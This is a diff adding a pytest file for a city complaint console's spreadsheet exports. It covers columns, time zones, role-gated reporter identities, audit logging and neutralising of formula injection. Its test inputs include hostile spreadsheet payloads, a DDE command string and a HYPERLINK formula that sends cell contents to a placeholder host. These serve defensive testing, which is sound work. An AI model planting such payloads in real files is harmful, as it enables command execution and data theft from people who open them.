@@ -1,0 +1,362 @@
+"""Cases as a supervisor's spreadsheet (console.exports): the columns reported on, in order; times in the city's
+time zone; names of queues, districts, labels and statuses rather than codes; the reporter's name and phone only
+when asked, only for the roles that may reveal identities, and never for an anonymous reporter; no cell a
+spreadsheet would run as a formula (= + - @, tab, carriage return: OWASP's list), in CSV (UTF-8 with a byte-order
+mark) and in XLSX (text cells stay text); every export in the audit log with its filter; at most 10,000 cases.
+The formatting is checked on cases built in memory; the exports themselves on SQLite and the PostgreSQL on
+127.0.0.1. (tests/console/test_exports_and_audit.py downloads the same through the pages and the REST API.)"""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+from collections.abc import Sequence
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+from zoneinfo import ZoneInfo
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import insert, select
+
+from console import exports
+from console.auth import Principal
+from console.context import ConsoleContext
+from console.exports import Sheet
+from console.operations import OperationError
+from handlers.city import CityConfig, load_city_config
+from storage import queries, staff_actions
+from storage.models import AuditEntry, Case, StaffRole, StaffUser
+from tests.console.conftest import make_context
+from tests.factories import create_staff, file_case
+
+IP = "203.0.113.7"
+CITY = load_city_config(None)
+HALL = "清廉大厅监督组（市行政审批服务局）"
+HEADER = [
+    "编号 case number", "收到时间 received (Asia/Shanghai)", "队列 queue", "区县 district", "分类 label",
+    "分类确认 label review", "置信度 confidence", "状态 status", "承办人 assignee",
+    "受理时间 accepted (Asia/Shanghai)", "受理期限 accept by (Asia/Shanghai)",
+    "办结期限 resolve by (Asia/Shanghai)", "办结时间 closed (Asia/Shanghai)", "超期 overdue", "评价 rating",
+    "实名 real name", "渠道 channel", "地点 place", "摘要 summary",
+]
+IDENTITY = ["举报人姓名 reporter's name", "举报人电话 reporter's phone"]
+NOW = datetime(2026, 3, 25, 4, 0, tzinfo=UTC)
+
+
+def _case(**values: Any) -> Case:
+    """A case as an export reads it, built in memory: a real-name case in handling unless told otherwise."""
+    fields: dict[str, Any] = {
+        "case_number": "QL-2026-000007", "created_at": datetime(2026, 3, 1, 16, 30, tzinfo=UTC),
+        "queue": "clean_hall", "district": "yuelu", "label": "slow_service", "label_status": "corrected",
+        "label_confidence": 0.876543, "status": "in_handling", "assigned_to_id": 5,
+        "accepted_at": datetime(2026, 3, 2, 1, 0, tzinfo=UTC),
+        "accept_due_at": datetime(2026, 3, 6, 15, 59, tzinfo=UTC),
+        "resolve_due_at": datetime(2026, 3, 20, 15, 59, tzinfo=UTC), "closed_at": None, "rating": None,
+        "anonymous": False, "channel": "wechat", "place": "岳麓区政务服务中心",
+        "description": "  窗口人员\n\n擅离岗位，\t群众排队。 ",
+        "reporter_name": "张三", "reporter_phone": "13800000000",
+    }
+    fields.update(values)
+    return Case(**fields)
+
+
+def _row(case: Case, *, identity: bool = False, city: CityConfig = CITY,
+         usernames: dict[int, str] | None = None, now: datetime = NOW) -> dict[str, Any]:
+    table = exports.sheet([case], {5: "li"} if usernames is None else usernames, city, identity=identity, now=now)
+    [row] = table.rows
+    return dict(zip(table.header, row, strict=True))
+
+
+# --- cells no spreadsheet runs as a formula ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", [
+    "=1+1", '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")', "+8613800000000", "-13800000000", "@SUM(1+1)",
+    "\t=1+1", "\r=1+1",
+])
+def test_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe(text: str) -> None:
+    assert exports.neutralised(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["1+1", "a=b", "举报人邮箱 li@example.cn", "'=1+1", "", None, -5, -0.5])
+def test_other_cells_are_left_as_they_are(value: Any) -> None:
+    assert exports.neutralised(value) == value
+
+
+# --- the columns and the cells of a row -------------------------------------------------------------------------
+
+
+def test_the_columns_are_the_reported_ones_and_identity_adds_the_name_and_phone_at_the_end() -> None:
+    assert exports.header(CITY, identity=False) == HEADER
+    assert exports.header(CITY, identity=True) == HEADER + IDENTITY
+
+
+def test_a_row_shows_names_local_times_and_a_one_line_summary() -> None:
+    row = _row(_case())
+    assert list(row.values()) == [
+        "QL-2026-000007", "2026-03-02 00:30", HALL, "岳麓区", "窗口服务问题", "已更正", 0.8765, "办理中", "li",
+        "2026-03-02 09:00", "2026-03-06 23:59", "2026-03-20 23:59", None, "是", None, "是", "wechat",
+        "岳麓区政务服务中心", "窗口人员 擅离岗位， 群众排队。"]
+
+
+def test_a_closed_rated_case_shows_when_it_was_closed_and_is_not_overdue() -> None:
+    row = _row(_case(status="closed", label_status="confirmed", rating=4,
+                     closed_at=datetime(2026, 3, 24, 23, 0, tzinfo=UTC)))
+    assert (row["状态 status"], row["分类确认 label review"], row["办结时间 closed (Asia/Shanghai)"],
+            row["评价 rating"], row["超期 overdue"]) == ("已办结", "已确认", "2026-03-25 07:00", 4, "否")
+
+
+@pytest.mark.parametrize(("status", "accept_due", "resolve_due", "overdue"), [
+    ("routed", datetime(2026, 3, 25, 3, 59, tzinfo=UTC), None, "是"),  # not accepted a minute after its deadline
+    ("routed", datetime(2026, 3, 25, 4, 1, tzinfo=UTC), None, "否"),
+    ("routed", datetime(2026, 3, 25, 4, 1, tzinfo=UTC), datetime(2026, 3, 24, tzinfo=UTC), "是"),  # open all along
+    ("accepted", datetime(2026, 3, 1, tzinfo=UTC), datetime(2026, 3, 25, 3, 59, tzinfo=UTC), "是"),
+    ("answered", None, datetime(2026, 3, 24, tzinfo=UTC), "是"),
+    ("rejected", datetime(2026, 3, 1, tzinfo=UTC), datetime(2026, 3, 1, tzinfo=UTC), "否"),
+    ("in_handling", None, None, "否"),
+])
+def test_overdue_says_whether_the_open_deadline_had_passed_at_the_time_of_the_export(
+        status: str, accept_due: datetime | None, resolve_due: datetime | None, overdue: str) -> None:
+    assert _row(_case(status=status, accept_due_at=accept_due, resolve_due_at=resolve_due))["超期 overdue"] == overdue
+
+
+def test_what_the_city_no_longer_knows_is_shown_by_its_code_and_what_is_missing_stays_empty() -> None:
+    row = _row(_case(queue="old_queue", district="old_district", label="made_up", label_status=None,
+                     label_confidence=None, status="paused", assigned_to_id=99, accepted_at=None),
+               usernames={5: "li"})
+    assert [row[name] for name in ("队列 queue", "区县 district", "分类 label", "分类确认 label review",
+                                   "置信度 confidence", "状态 status", "承办人 assignee",
+                                   "受理时间 accepted (Asia/Shanghai)")] == [
+        "old_queue", "old_district", "made_up", "", None, "paused", "", None]
+    bare = _row(_case(district=None, label=None, assigned_to_id=None))
+    assert (bare["区县 district"], bare["分类 label"], bare["承办人 assignee"]) == ("", "", "")
+
+
+def test_identity_columns_hold_a_real_name_reporters_name_and_phone_and_nothing_for_an_anonymous_one() -> None:
+    named = _row(_case(), identity=True)
+    assert [named[name] for name in ("实名 real name", *IDENTITY)] == ["是", "张三", "13800000000"]
+    anonymous = _row(_case(anonymous=True), identity=True)  # whatever is stored, an anonymous reporter stays so
+    assert [anonymous[name] for name in ("实名 real name", *IDENTITY)] == ["否", None, None]
+    assert not set(IDENTITY) & set(_row(_case()))
+
+
+def test_times_and_their_column_names_follow_the_citys_time_zone() -> None:
+    city = CITY.model_copy(update={"timezone": "America/New_York"})
+    row = _row(_case(), city=city)
+    assert (row["收到时间 received (America/New_York)"], row["办结期限 resolve by (America/New_York)"]) == (
+        "2026-03-01 11:30", "2026-03-20 11:59")  # standard time, then daylight saving time from 8 March
+
+
+def test_the_summary_is_one_line_of_at_most_200_characters() -> None:
+    long = _row(_case(description="举" * 150 + "\n\n" + "报" * 150))["摘要 summary"]
+    assert long == "举" * 150 + " " + "报" * 49
+
+
+def test_free_text_and_identity_that_would_run_as_a_formula_are_neutralised_in_their_cells() -> None:
+    row = _row(_case(place="=HYPERLINK(\"http://example.invalid\")", description="\t =cmd|' /C calc'!A0",
+                     reporter_name="@SUM(1+1)", reporter_phone="+8613800000000", channel="=web"), identity=True)
+    assert [row[name] for name in ("地点 place", "摘要 summary", "渠道 channel", *IDENTITY)] == [
+        "'=HYPERLINK(\"http://example.invalid\")", "'=cmd|' /C calc'!A0", "'=web", "'@SUM(1+1)",
+        "'+8613800000000"]
+
+
+# --- the files ----------------------------------------------------------------------------------------------------
+
+TABLE = Sheet(["编号 case number", "地点 place", "置信度 confidence", "评价 rating"], [
+    ["QL-2026-000001", '芙蓉区"一站式"大厅, 二楼\n东侧', 0.9123, 5],
+    ["QL-2026-000002", "'=1+1", None, None],
+    ["007", "=SUM(A1:A2)", 0.5, 3],
+])
+
+
+def test_csv_is_utf8_with_a_byte_order_mark_and_empty_cells_for_missing_values() -> None:
+    content = exports.to_csv(TABLE)
+    assert content.startswith(b"\xef\xbb\xbf\xe7\xbc\x96\xe5\x8f\xb7")  # the mark, then 编号
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    assert rows == [
+        ["编号 case number", "地点 place", "置信度 confidence", "评价 rating"],
+        ["QL-2026-000001", '芙蓉区"一站式"大厅, 二楼\n东侧', "0.9123", "5"],
+        ["QL-2026-000002", "'=1+1", "", ""],
+        ["007", "=SUM(A1:A2)", "0.5", "3"],
+    ]
+
+
+def test_xlsx_is_one_sheet_whose_text_stays_text_and_numbers_stay_numbers() -> None:
+    workbook = load_workbook(io.BytesIO(exports.to_xlsx(TABLE)))
+    assert workbook.sheetnames == ["cases"]
+    cells = [[(cell.value, cell.data_type) for cell in row] for row in workbook["cases"].iter_rows()]
+    assert cells[1:] == [
+        [("QL-2026-000001", "s"), ('芙蓉区"一站式"大厅, 二楼\n东侧', "s"), (0.9123, "n"), (5, "n")],
+        [("QL-2026-000002", "s"), ("'=1+1", "s"), (None, "n"), (None, "n")],
+        [("007", "s"), ("=SUM(A1:A2)", "s"), (0.5, "n"), (3, "n")],  # even unneutralised: never a formula
+    ]
+    assert [value for value, _ in cells[0]] == TABLE.header
+
+
+# --- exports on the database --------------------------------------------------------------------------------------
+
+
+class Office:
+    """A console context on the test database with its staff and cases."""
+
+    def __init__(self, context: ConsoleContext) -> None:
+        self.context = context
+        self.database = context.database
+
+    async def staff(self, username: str, role: StaffRole, queues: Sequence[str] = ()) -> Principal:
+        async with self.database.sessionmaker.begin() as session:
+            await create_staff(session, username, role, queues)
+        async with self.database.read_sessionmaker() as session:
+            user = await staff_actions.get_staff_by_username(session, username)
+        assert user is not None
+        return Principal(user=user, session=None, context=self.context, ip=IP)
+
+    async def case(self, queue: str = "clean_hall", **values: Any) -> Case:
+        async with self.database.sessionmaker.begin() as session:
+            case, _ = await file_case(session, queue=queue, secret_key=self.context.secret_key, **values)
+        return case
+
+    async def assign(self, case: Case, user: StaffUser) -> None:
+        async with self.database.sessionmaker.begin() as session:
+            found = await session.get(Case, case.id)
+            assert found is not None
+            await staff_actions.assign_case(session, found, user, actor=user)
+
+    async def exports(self) -> list[AuditEntry]:
+        async with self.database.read_sessionmaker() as session:
+            return list((await session.execute(select(AuditEntry).where(AuditEntry.action == "case.export")
+                                               .order_by(AuditEntry.id))).scalars())
+
+
+@pytest.fixture
+def office(database: Any, tmp_path: Path) -> Office:
+    return Office(make_context(database, tmp_path))
+
+
+def _csv(export: exports.Export) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
+
+
+def _stamp() -> str:
+    return datetime.now(UTC).astimezone(ZoneInfo("Asia/Shanghai")).strftime("%Y%m%d-%H%M")
+
+
+async def _refusal(call: Any) -> tuple[int, str]:
+    with pytest.raises(OperationError) as refused:
+        await call
+    return refused.value.status_code, refused.value.message
+
+
+async def test_a_supervisor_exports_the_filters_cases_newest_first_and_the_export_is_audited(office: Office) -> None:
+    supervisor = await office.staff("wang", StaffRole.SUPERVISOR)
+    reviewer = await office.staff("li", StaffRole.REVIEWER, ["clean_hall"])
+    named = await office.case(now=datetime(2026, 1, 5, 16, 30, tzinfo=UTC), anonymous=False, reporter_name="张三",
+                              reporter_phone="13800000000", channel="wechat", confidence=0.912345,
+                              accept_due_at=datetime(2026, 1, 9, 15, 59, tzinfo=UTC),
+                              resolve_due_at=datetime(2026, 3, 2, 15, 59, tzinfo=UTC))
+    unnamed = await office.case(now=datetime(2026, 1, 6, 1, 5, tzinfo=UTC), district=None, label=None,
+                                resolve_due_at=datetime(2099, 1, 1, tzinfo=UTC), place="芙蓉区信访接待大厅")
+    await office.assign(unnamed, reviewer.user)
+    await office.case("petitions", label="bribery_gifts")
+
+    before = _stamp()
+    export = await exports.export_cases(supervisor, queries.CaseFilter(queues={"clean_hall"}), fmt="csv",
+                                        identity=False, ip="198.51.100.2", described={"queue": "clean_hall"})
+    assert export.filename in {f"qinglian-cases-{before}.csv", f"qinglian-cases-{_stamp()}.csv"}
+    assert export.media_type == "text/csv; charset=utf-8"
+    rows = _csv(export)
+    assert rows == [HEADER, [
+        str(unnamed.case_number), "2026-01-06 09:05", HALL, "", "", "", "", "待受理", "li", "", "",
+        "2099-01-01 08:00", "", "否", "", "否", "telegram", "芙蓉区信访接待大厅",
+        "窗口工作人员擅离岗位两个小时，群众排队无人办理。",
+    ], [
+        str(named.case_number), "2026-01-06 00:30", HALL, "岳麓区", "窗口服务问题", "", "0.9123", "待受理", "", "",
+        "2026-01-09 23:59", "2026-03-02 23:59", "", "是", "", "是", "wechat", "岳麓区政务服务中心",
+        "窗口工作人员擅离岗位两个小时，群众排队无人办理。",
+    ]]
+    [entry] = await office.exports()
+    assert (entry.actor_id, entry.case_id, entry.ip, entry.detail) == (supervisor.user.id, None, "198.51.100.2", {
+        "format": "csv", "count": 2, "identity": False, "filter": {"queue": "clean_hall"}})
+
+
+async def test_an_export_holds_only_the_cases_of_the_users_own_queues(office: Office) -> None:
+    reviewer = await office.staff("li", StaffRole.REVIEWER, ["clean_hall"])
+    hall = await office.case("clean_hall")
+    await office.case("petitions", label="bribery_gifts")
+    everything = await exports.export_cases(reviewer, queries.CaseFilter(), fmt="csv", identity=False, ip=None,
+                                            described={})
+    asked_elsewhere = await exports.export_cases(reviewer, queries.CaseFilter(queues={"petitions"}), fmt="csv",
+                                                 identity=False, ip=None, described={"queue": "petitions"})
+    assert [row[0] for row in _csv(everything)[1:]] == [hall.case_number]
+    assert _csv(asked_elsewhere) == [HEADER]
+    # without an address of its own the entry carries the request's
+    assert [(e.ip, e.detail["count"]) for e in await office.exports()] == [(IP, 1), (IP, 0)]
+
+
+async def test_identity_columns_are_refused_to_a_role_that_may_not_reveal_and_audited_for_one_that_may(
+        office: Office) -> None:
+    reviewer = await office.staff("li", StaffRole.REVIEWER, ["clean_hall"])
+    supervisor = await office.staff("wang", StaffRole.SUPERVISOR)
+    named = await office.case(anonymous=False, reporter_name="张三", reporter_phone="-13800000000")
+    anonymous = await office.case()
+    hall = queries.CaseFilter(queues={"clean_hall"})
+
+    assert await _refusal(exports.export_cases(reviewer, hall, fmt="csv", identity=True, ip=None, described={})) == (
+        403, "your role may not see reporters' identities")
+    assert await office.exports() == []
+
+    export = await exports.export_cases(supervisor, hall, fmt="xlsx", identity=True, ip=None, described={})
+    assert export.filename.endswith(".xlsx") and export.media_type == exports.MEDIA_TYPES["xlsx"]
+    sheet = load_workbook(io.BytesIO(export.content))["cases"]
+    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    assert rows[0] == HEADER + IDENTITY
+    assert [(row[0], row[15], row[-2], row[-1]) for row in rows[1:]] == [
+        (anonymous.case_number, "否", None, None), (named.case_number, "是", "张三", "'-13800000000")]
+    assert [(e.actor_id, e.detail["format"], e.detail["identity"]) for e in await office.exports()] == [
+        (supervisor.user.id, "xlsx", True)]
+
+
+async def test_the_citys_identity_roles_decide_who_may_export_identities(office: Office) -> None:
+    supervisor = await office.staff("wang", StaffRole.SUPERVISOR)
+    admin = await office.staff("boss", StaffRole.ADMIN)
+    await office.case(anonymous=False, reporter_name="张三", reporter_phone="13800000000")
+    city = CITY.model_copy(update={"console": CITY.console.model_copy(update={"identity_roles": ["admin"]})})
+    context = dataclasses.replace(office.context, city=city)
+    supervisor, admin = (dataclasses.replace(p, context=context) for p in (supervisor, admin))
+
+    assert await _refusal(exports.export_cases(supervisor, queries.CaseFilter(), fmt="csv", identity=True, ip=None,
+                                               described={})) == (403, "your role may not see reporters' identities")
+    plain = await exports.export_cases(supervisor, queries.CaseFilter(), fmt="csv", identity=False, ip=None,
+                                       described={})
+    revealed = await exports.export_cases(admin, queries.CaseFilter(), fmt="csv", identity=True, ip=None,
+                                          described={})
+    assert len(_csv(plain)[1]) == len(HEADER)
+    assert _csv(revealed)[1][-2:] == ["张三", "13800000000"]
+    assert [e.actor_id for e in await office.exports()] == [supervisor.user.id, admin.user.id]
+
+
+async def test_more_than_10000_matching_cases_are_refused_and_10000_are_exported(office: Office) -> None:
+    supervisor = await office.staff("wang", StaffRole.SUPERVISOR)
+    start = datetime(2026, 1, 1, tzinfo=UTC)
+    async with office.database.sessionmaker.begin() as session:  # 10,001 bare cases, one of them in another queue
+        await session.execute(insert(Case), [{
+            "case_number": f"QL-2026-{n:06d}", "receipt_code_hash": f"{n:064x}", "channel": "telegram",
+            "reporter_ref": "r", "reporter_key": "k", "locale": "zh", "district": None, "place": "p",
+            "occurred": "o", "description": "d", "anonymous": True, "status": "routed",
+            "queue": "petitions" if n == 0 else "clean_hall", "created_at": start + timedelta(seconds=n),
+            "updated_at": start} for n in range(10_001)])
+
+    assert await _refusal(exports.export_cases(supervisor, queries.CaseFilter(), fmt="csv", identity=False,
+                                               ip=None, described={})) == (
+        422, "more than 10000 cases match; an export holds at most 10000: narrow the filter")
+    assert await office.exports() == []  # nothing was exported
+
+    export = await exports.export_cases(supervisor, queries.CaseFilter(queues={"clean_hall"}), fmt="csv",
+                                        identity=False, ip=None, described={"queue": "clean_hall"})
+    rows = _csv(export)
+    assert (len(rows), rows[1][0], rows[-1][0]) == (10_001, "QL-2026-010000", "QL-2026-000001")
+    assert [e.detail["count"] for e in await office.exports()] == [10_000]
+
